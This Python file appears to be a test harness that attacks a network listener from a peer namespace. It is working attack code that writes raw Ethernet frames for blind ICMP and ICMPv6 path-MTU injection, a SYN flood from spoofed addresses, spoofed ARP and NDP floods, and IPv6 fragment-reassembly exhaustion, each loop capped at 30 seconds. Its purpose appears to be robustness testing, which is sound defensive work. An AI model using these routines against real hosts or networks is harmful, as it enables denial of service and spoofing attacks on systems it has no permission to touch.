#!/usr/bin/env python3
"""Remote attacks on a skops listener from the peer namespace (issue 30),
written as raw Ethernet frames on an AF_PACKET socket: no scapy, which
builds a few thousand packets a second here, far below a flood's rate.

  attacker.py icmp IFACE SERVER_IP PORT SECONDS PPS
      Blind ICMP "fragmentation needed", next-hop MTU 68, quoting segments
      from SERVER_IP:PORT. The latest segment of that flow seen on IFACE
      gives the client port and the server's sequence number; half the
      messages name that connection with a sequence number half the space
      away (never in flight: what a blind guess almost always is), half
      random ports and random sequence numbers. Prints {"sent": N} on exit.
  attacker.py synflood IFACE SERVER_MAC SERVER_IP PORT SECONDS SOURCES PPS
      SYNs from SOURCES spoofed on-link addresses (198.18.0.10 up, random
      MACs nobody answers ARP for), PPS a second (0: the attacker's full
      speed). Prints {"sent": N, "pps": R}.
  attacker.py ptb6 IFACE SERVER_IP6 PORT SECONDS PPS
      Blind ICMPv6 Packet Too Big quoting segments from SERVER_IP6:PORT, in
      turn: the flow's latest sequence number (likely in flight) with an MTU
      below 1280 (RFC 8201 §4: ignored); the flow with MTU 1280 and a
      sequence number half the space away (RFC 5927 §4.1: not in flight);
      random ports, sequence numbers and MTUs (0-1500). Prints {"sent": N}.
  attacker.py arp IFACE SERVER_MAC SERVER_IP SECONDS PPS
      Spoofed ARP from the SERVER_IP /24 (never the peer's .1), in turn:
      requests for SERVER_IP from random senders and MACs, unsolicited
      replies to SERVER_IP from random senders, requests for other targets.
      Prints {"sent": N}.
  attacker.py ndp IFACE SERVER_MAC SERVER_IP6 SECONDS PPS
      The same for NDP in SERVER_IP6's /64 (never the peer's ::1): NS for
      SERVER_IP6 with a source LLA option, unsolicited NA (override) for
      random targets, NS for other targets. Prints {"sent": N}.
  attacker.py frag6 IFACE SERVER_MAC SERVER_IP6 SECONDS PPS
      First fragments (offset 0, more fragments) of UDP datagrams that are
      never completed, each with its own identification, from random
      sources in SERVER_IP6's /64: they fill reassembly slots and memory
      (RFC 8200 §4.5). Prints {"sent": N}.
Every loop is bounded by SECONDS (at most 30).
"""
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 3
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
ETH_P_IPV6 = 0x86DD


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip4(src, dst, proto, payload, ident=0):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def eth(dst, src, payload, etype=ETH_P_IP):
    return dst + src + struct.pack("!H", etype) + payload


def ip6(src, dst, nh, payload, hlim=64):
    return (struct.pack("!IHBB", 6 << 28, len(payload), nh, hlim) + src + dst + payload)


def icmp6(src, dst, body, hlim=64):
    """body with its checksum field zero; src, dst: 16 bytes each"""
    ph = src + dst + struct.pack("!IxxxB", len(body), 58)
    body = body[:2] + struct.pack("!H", csum(ph + body)) + body[4:]
    return ip6(src, dst, 58, body, hlim)


def paced(seconds, pps):
    """yields a running count until SECONDS, PPS a second"""
    t0 = time.monotonic()
    end = t0 + seconds
    i = 0
    while time.monotonic() < end:
        yield i
        i += 1
        d = t0 + i / pps - time.monotonic()
        if d > 0:
            time.sleep(d)


def mac_of(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def flow_of(f, want, port):
    """(server MAC, client port, server seq) when f is a segment of the flow."""
    if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6 or f[26:30] != want:
        return None
    ihl = (f[14] & 15) * 4
    sport, dport, seq = struct.unpack("!HHI", f[14 + ihl:22 + ihl])
    return (f[6:12], dport, seq) if sport == port else None


def sniff_flow(s, server_ip, port, deadline, flow=None, most=8, match=None):
    """The latest segment's flow: blocks until one when flow is None, else
    reads what is there (at most most frames). match: flow_of (IPv4, the
    default; server_ip a dotted quad) or flow6_of (server_ip packed)."""
    match = match or flow_of
    want = socket.inet_aton(server_ip) if match is flow_of else server_ip
    n = 0
    while flow is None or n < most:
        n += 1
        if flow is not None:
            try:
                f = s.recv(2048, socket.MSG_DONTWAIT)
            except (BlockingIOError, InterruptedError, socket.timeout):
                return flow
        else:
            if time.monotonic() >= deadline:
                return None
            try:
                f = s.recv(2048)
            except socket.timeout:
                continue
        flow = match(f, want, port) or flow
    return flow


def flow6_of(f, want, port):
    """(server MAC, client port, server seq) when f is a segment of the flow."""
    if len(f) < 74 or f[12:14] != b"\x86\xdd" or f[20] != 6 or f[22:38] != want:
        return None
    sport, dport, seq = struct.unpack("!HHI", f[54:62])
    return (f[6:12], dport, seq) if sport == port else None


def raw(iface, rcvbuf=None):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.bind((iface, 0))
    return s


def ptb6(iface, server_ip, port, seconds, pps):
    s = raw(iface, 32768)
    s.settimeout(0.2)
    end = time.monotonic() + seconds
    srv = socket.inet_pton(socket.AF_INET6, server_ip)
    flow = sniff_flow(s, srv, port, end, match=flow6_of)
    if flow is None:
        print(json.dumps({"sent": 0, "error": "no segment of the flow seen"}))
        return 1
    me = mac_of(iface)
    peer = srv[:15] + b"\x01"
    router = srv[:15] + b"\xfe"
    rnd = random.Random(32)
    sent = 0
    for i in paced(max(0.0, end - time.monotonic()), pps):
        if i % 16 == 0:
            flow = sniff_flow(s, srv, port, end, flow, match=flow6_of)
        smac, cport, sseq = flow
        k = i % 3
        if k == 0:
            dport, seq, mtu = cport, sseq, rnd.randrange(0, 1280)
        elif k == 1:
            dport, seq, mtu = cport, (sseq + 0x80000000 + rnd.randrange(1 << 28)) & 0xFFFFFFFF, 1280
        else:
            dport, seq, mtu = rnd.randrange(1024, 65536), rnd.randrange(1 << 32), rnd.randrange(1501)
        # the quoted segment as the server sent it (RFC 4443 §3.2: as much
        # of the invoking packet as fits; its headers suffice)
        tcp = struct.pack("!HHIIBBHHH", port, dport, seq, 0, 5 << 4, 0x10, 65535, 0, 0)
        inner = ip6(srv, peer, 6, tcp + b"\0" * 1000)[:60]
        body = struct.pack("!BBHI", 2, 0, 0, mtu) + inner
        s.send(eth(smac, me, icmp6(router, srv, body), ETH_P_IPV6))
        sent += 1
    print(json.dumps({"sent": sent}))
    return 0


def arp(iface, server_mac, server_ip, seconds, pps):
    s = raw(iface)
    dmac = bytes.fromhex(server_mac.replace(":", ""))
    bcast = b"\xff" * 6
    srv = socket.inet_aton(server_ip)
    rnd = random.Random(33)
    sent = 0
    for i in paced(seconds, pps):
        smac = bytes([0x02, 0x5b, rnd.randrange(256), rnd.randrange(256), rnd.randrange(256), 1])
        spa = srv[:3] + bytes([rnd.randrange(10, 250)])
        k = i % 3
        if k == 0:
            op, tha, tpa, dst = 1, b"\0" * 6, srv, bcast
        elif k == 1:
            op, tha, tpa, dst = 2, dmac, srv, dmac
        else:
            other = srv[:3] + bytes([rnd.randrange(10, 250)])
            op, tha, tpa, dst = 1, b"\0" * 6, other, bcast
        body = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op) + smac + spa + tha + tpa
        s.send(eth(dst, smac, body, ETH_P_ARP))
        sent += 1
    print(json.dumps({"sent": sent}))
    return 0


def ndp(iface, server_mac, server_ip, seconds, pps):
    s = raw(iface)
    dmac = bytes.fromhex(server_mac.replace(":", ""))
    srv = socket.inet_pton(socket.AF_INET6, server_ip)
    rnd = random.Random(34)
    sent = 0

    def rnd_addr():
        return srv[:8] + bytes([0, 0, 0, 0, 0, 0x5b, rnd.randrange(256), rnd.randrange(2, 256)])

    for i in paced(seconds, pps):
        smac = bytes([0x02, 0x5c, rnd.randrange(256), rnd.randrange(256), rnd.randrange(256), 1])
        src = rnd_addr()
        k = i % 3
        if k == 0:
            # NS for the server from a random source, with its LLA (type 1)
            body = struct.pack("!BBHI", 135, 0, 0, 0) + srv + bytes([1, 1]) + smac
        elif k == 1:
            # unsolicited NA, override, for a random target, its LLA (type 2)
            body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + src + bytes([2, 1]) + smac
        else:
            body = struct.pack("!BBHI", 135, 0, 0, 0) + rnd_addr() + bytes([1, 1]) + smac
        s.send(eth(dmac, smac, icmp6(src, srv, body, 255), ETH_P_IPV6))
        sent += 1
    print(json.dumps({"sent": sent}))
    return 0


def frag6(iface, server_mac, server_ip, seconds, pps):
    s = raw(iface)
    dmac = bytes.fromhex(server_mac.replace(":", ""))
    srv = socket.inet_pton(socket.AF_INET6, server_ip)
    rnd = random.Random(35)
    sent = 0
    for i in paced(seconds, pps):
        smac = bytes([0x02, 0x5d, rnd.randrange(256), rnd.randrange(256), rnd.randrange(256), 1])
        src = srv[:8] + bytes([0, 0, 0, 0, 0, 0x5d, rnd.randrange(256), rnd.randrange(2, 256)])
        # a 4000-byte UDP datagram's first 1232 bytes: never the rest
        udp = struct.pack("!HHHH", rnd.randrange(1024, 65536), 9, 4008, 0) + b"\xa5" * 1224
        fh = struct.pack("!BBHI", 17, 0, 1, rnd.randrange(1 << 32))
        s.send(eth(dmac, smac, ip6(src, srv, 44, fh + udp), ETH_P_IPV6))
        sent += 1
    print(json.dumps({"sent": sent}))
    return 0


def icmp(iface, server_ip, port, seconds, pps):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    # a small buffer: the kernel drops old frames, the flow's latest count
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32768)
    s.bind((iface, 0))
    s.settimeout(0.2)
    end = time.monotonic() + seconds
    flow = sniff_flow(s, server_ip, port, end)
    if flow is None:
        print(json.dumps({"sent": 0, "error": "no segment of the flow seen"}))
        return 1
    me = mac_of(iface)
    peer = socket.inet_ntoa(socket.inet_aton(server_ip)[:3] + b"\x01")
    rnd = random.Random(30)
    sent = 0
    gap = 1.0 / pps
    nxt = time.monotonic()
    while time.monotonic() < end:
        smac, cport, sseq = flow = sniff_flow(s, server_ip, port, end, flow)
        if sent % 2 == 0:
            dport, seq = cport, (sseq + 0x80000000 + rnd.randrange(1 << 28)) & 0xFFFFFFFF
        else:
            dport, seq = rnd.randrange(1024, 65536), rnd.randrange(1 << 32)
        # the quoted segment as the server sent it: its IP header and the
        # first 8 bytes of TCP (ports, sequence number), RFC 792
        inner = ip4(server_ip, peer, 6, struct.pack("!HHI", port, dport, seq) + b"\0" * 12)
        body = struct.pack("!BBHHH", 3, 4, 0, 0, 68) + inner[:28]
        body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
        s.send(eth(smac, me, ip4(peer, server_ip, 1, body, sent & 0xFFFF)))
        sent += 1
        nxt += gap
        d = nxt - time.monotonic()
        if d > 0:
            time.sleep(d)
    print(json.dumps({"sent": sent}))
    return 0


def synflood(iface, server_mac, server_ip, port, seconds, sources, pps):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    dmac = bytes.fromhex(server_mac.replace(":", ""))
    dst = socket.inet_aton(server_ip)
    base = struct.unpack("!I", dst)[0] & 0xFFFFFF00
    rnd = random.Random(31)
    frames = []
    for i in range(4096):
        src = socket.inet_ntoa(struct.pack("!I", base | (10 + i % sources)))
        smac = bytes([0x02, 0x5a, rnd.randrange(256), rnd.randrange(256), 0, i % sources])
        sport, seq = rnd.randrange(1024, 65536), rnd.randrange(1 << 32)
        # SYN with MSS 1460, as a client's
        tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
        tcp += struct.pack("!BBH", 2, 4, 1460)
        ph = socket.inet_aton(src) + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
        frames.append(eth(dmac, smac, ip4(src, server_ip, 6, tcp, i)))
    sent = 0
    t0 = time.monotonic()
    end = t0 + seconds
    send = s.send
    batch = 64
    while time.monotonic() < end:
        for f in frames[:batch]:
            try:
                send(f)
            except BlockingIOError:
                pass
        frames = frames[batch:] + frames[:batch]
        sent += batch
        if pps:
            d = t0 + sent / pps - time.monotonic()
            if d > 0:
                time.sleep(d)
    el = time.monotonic() - t0
    print(json.dumps({"sent": sent, "pps": round(sent / el)}))
    return 0


def main(a):
    if len(a) == 6 and a[0] == "icmp":
        return icmp(a[1], a[2], int(a[3]), min(float(a[4]), 30), float(a[5]))
    if len(a) == 8 and a[0] == "synflood":
        return synflood(a[1], a[2], a[3], int(a[4]), min(float(a[5]), 30), int(a[6]),
                        float(a[7]))
    if len(a) == 6 and a[0] == "ptb6":
        return ptb6(a[1], a[2], int(a[3]), min(float(a[4]), 30), float(a[5]))
    if len(a) == 6 and a[0] in ("arp", "ndp", "frag6"):
        f = {"arp": arp, "ndp": ndp, "frag6": frag6}[a[0]]
        return f(a[1], a[2], a[3], min(float(a[4]), 30), float(a[5]))
    sys.stderr.write(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
